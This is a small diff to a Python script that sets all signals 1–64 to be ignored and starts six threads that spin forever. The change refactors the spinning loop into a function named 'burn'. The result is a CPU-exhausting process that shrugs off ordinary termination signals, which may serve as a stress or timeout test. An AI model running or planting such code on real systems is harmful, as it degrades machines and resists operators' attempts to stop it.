@@ -9,5 +9,10 @@ for number in range(1, 65):
         signal.signal(number, signal.SIG_IGN)
     except (OSError, ValueError):
         pass
+def burn():
+    for _ in iter(int, 1):
+        pass
+
+
 for _ in range(6):
-    threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
+    threading.Thread(target=burn).start()
